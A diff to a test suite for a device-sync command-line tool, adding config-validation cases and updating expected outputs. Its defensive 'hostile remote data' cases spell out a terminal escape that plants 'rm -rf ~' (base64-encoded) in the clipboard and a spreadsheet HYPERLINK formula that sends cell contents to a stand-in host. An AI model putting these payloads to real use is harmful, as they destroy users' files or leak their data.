@@ -454,6 +454,16 @@ def _unknown_serial_field(w: World) -> list[str]:
     return ["sync", "Halo"]
 
 
+def _misspelt_match_on(w: World) -> list[str]:
+    w.halo(extra='match_on = ["serail", "name"]\n')
+    return ["sync", "Halo"]
+
+
+def _placeholder_mac_not_a_mac(w: World) -> list[str]:
+    w.write_config('[identity]\nplaceholder_macs = ["00:11:22:33:44"]\n')
+    return ["status"]
+
+
 def _full_disk_demo(w: World) -> list[str]:
     invoke("--db", w.db, "status", env=w.env).ok()  # creates the store, empty
     w.limit_pages()
@@ -653,8 +663,8 @@ CASES: tuple[Case, ...] = (
           "integrations[1]; every integration needs its own name")),
     Case("name-with-invisibles", "command line: the integration named with a zero-width space and a trailing space",
          "syncview sync 'Halo\u200b '", _name_with_invisibles,
-         ("Halo: success in <t> s: 4 fetched, 4 new, 0 changed, 0 newly matched, 0 records created, 0 removed "
-          "remotely; now 0 matched, 4 not synced, 0 excluded"), code=0, survivable=True),
+         ("Halo: success in <t> s: 4 fetched, 4 new, 0 changed, 0 newly matched, 0 records created, 0 newly "
+          "removed remotely; now 0 matched, 4 not synced, 0 excluded, 0 removed remotely"), code=0, survivable=True),
     Case("cmd-endless", "secret: `cmd:yes`, a command that prints without end",
          "syncview sync Halo", _endless_cmd,
          ('syncview: error: integration "Halo", setting client_secret: "cmd:yes": yes printed more than 1 MiB, '
@@ -733,36 +743,41 @@ CASES: tuple[Case, ...] = (
     Case("malformed-rows", "product: rows without a name, or with an object as id and a number as name",
          "syncview sync Halo", _malformed_rows,
          ("Halo: success in <t> s: 4 fetched, 4 new, 0 changed, 0 newly matched, 0 records created, 0 "
-          "removed remotely; now 0 matched, 4 not synced, 0 excluded — 2 warnings: some items were skipped "
-          "(see the log)"), code=0, survivable=True),
+          "newly removed remotely; now 0 matched, 4 not synced, 0 excluded, 0 removed remotely — 2 warnings: "
+          "some items were skipped (see the log)"), code=0, survivable=True),
     # ---- hostile remote data
     Case("escape-sequences", "remote data: a device name holding terminal escape sequences (OSC 52 clipboard "
          "write, clear screen)",
          "syncview resources --filter evil", _escapes_on_screen,
-         r"3   EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J  Device  Not Synced  —             Halo Client 01  just now",
+         r"3   EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J  Device  Not Synced  no client  —             Halo Client 01  "
+         "just now",
          code=0, survivable=True),
     Case("csv-formula", "remote data: a device name that is a spreadsheet formula (`=HYPERLINK(...)`)",
          "syncview export --format csv --filter hyperlink", _formula_in_csv,
          ('4,1,device,1002,"\'=HYPERLINK(""http://x.test/?""&A1,""open"")",not_synced,,,,Halo Client '
-          "01,,,<time>,false,1,,"), code=0, survivable=True),
+          "01,,,<time>,false,1,,,,its remote company matches no local client,no_client"), code=0, survivable=True),
     Case("huge-name", "remote data: a device name of 100 000 characters",
          "syncview resources --filter huge", _huge_name_on_screen,
-         "5   HUGE-" + "X" * 127 + "…  Device  Not Synced  —             Halo Client 01  just now",
+         "5   HUGE-" + "X" * 116 + "…  Device  Not Synced  no client  —             Halo Client 01  just now",
          code=0, survivable=True),
     Case("markup-names", "remote data: device names that are markup (`Workstation [/]`, `[DECOM] Server01`, "
          "`[@click=app.quit]quit[/]`)",
          "syncview resources --filter workstation", _markup_names,
-         "3   Workstation [/]  Device  Not Synced  —             Halo Client 01  just now", code=0, survivable=True),
+         "3   Workstation [/]  Device  Not Synced  no client  —             Halo Client 01  just now", code=0,
+         survivable=True),
     Case("lone-surrogate", "remote data: a device name with half an emoji (a lone surrogate, `\\ud83d` in JSON)",
          "syncview sync Halo", _lone_surrogate,
-         ("Halo: success in <t> s: 3 fetched, 3 new, 0 changed, 0 newly matched, 0 records created, 0 removed "
-          "remotely; now 0 matched, 3 not synced, 0 excluded — 1 warning: some items were skipped (see the log)"), code=0, survivable=True),
+         ("Halo: success in <t> s: 3 fetched, 3 new, 0 changed, 0 newly matched, 0 records created, 0 newly "
+          "removed remotely; now 0 matched, 3 not synced, 0 excluded, 0 removed remotely — 1 warning: some items "
+          "were skipped (see the log)"), code=0, survivable=True),
     Case("bidi-marks", "remote data: a name holding U+200E, U+200F and U+061C (invisible direction marks)",
          "syncview export --format json --filter mark", _bidi_marks,
          ('{"id": 3, "integration_id": 1, "type": "device", "external_id": "1001", "name": '
           '"MARK-\\u200eA\\u200fB\\u061cC", "status": "not_synced", "record_id": null, "record_name": null, '
           '"record_disabled": null, "remote_company": "Halo Client 01", "client_id": null, "client_name": null, '
-          '"last_seen": "<time>", "deleted_remotely": false, "version": 1, "updated_by": null, "updated_at": null}'), code=0, survivable=True),
+          '"last_seen": "<time>", "deleted_remotely": false, "version": 1, "updated_by": null, "updated_at": null, '
+          '"matched_on": null, "reason": "its remote company matches no local client", "reason_kind": "no_client"}'),
+         code=0, survivable=True),
     Case("gzip-bomb", "product: a gzip bomb (250 KB on the wire, 256 MB inflated; `max_response_bytes = 1048576`)",
          "syncview sync Halo", _gzip_bomb,
          ("syncview: error: Halo: GET /api/Client answered more than 1 MiB (max_response_bytes), so syncview "
@@ -822,7 +837,7 @@ CASES: tuple[Case, ...] = (
          "3 checks passed", code=0, survivable=True),
     Case("backup-read-only-media", "backup: a store on read-only media (the file and its directory read-only)",
          "syncview backup backups/monday.db", _read_only_media,
-         ("Backed up <tmp>/media/syncview.db to <tmp>/backups/monday.db (1.3 MB, 2,000 resources, schema 2)"), code=0, survivable=True, process=True),
+         ("Backed up <tmp>/media/syncview.db to <tmp>/backups/monday.db (1.4 MB, 2,000 resources, schema 3)"), code=0, survivable=True, process=True),
     Case("full-disk-sync", "store: the disk fills up during a sync",
          "syncview sync Halo", _full_disk_sync,
          ("syncview: error: Halo: the disk holding <tmp>/syncview.db is full; nothing was written: free some "
@@ -839,6 +854,15 @@ CASES: tuple[Case, ...] = (
          "syncview sync Halo", _unknown_serial_field,
          ('syncview: error: integration "Halo": serial_field must be one of key_field, key_field2, key_field3, '
           "inventory_number, got 'serial'")),
+    Case("misspelt-match-on", 'config: `match_on = ["serail", "name"]`, a rule misspelt',
+         "syncview sync Halo", _misspelt_match_on,
+         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): match_on has unknown rule '
+          "'serail' (did you mean \"serial\"?); expected a list of rules from xref, serial, mac, email, name, "
+          'e.g. match_on = ["serial", "name"]')),
+    Case("placeholder-mac-not-a-mac", "config: a placeholder MAC in `[identity]` that is not a MAC (5 octets)",
+         "syncview status", _placeholder_mac_not_a_mac,
+         ("syncview: error: config error in <tmp>/config.toml: identity.placeholder_macs: '00:11:22:33:44' is not "
+          'a MAC address; write 12 hex digits in any notation, e.g. "00:11:22:33:44:55"')),
 )
 
 
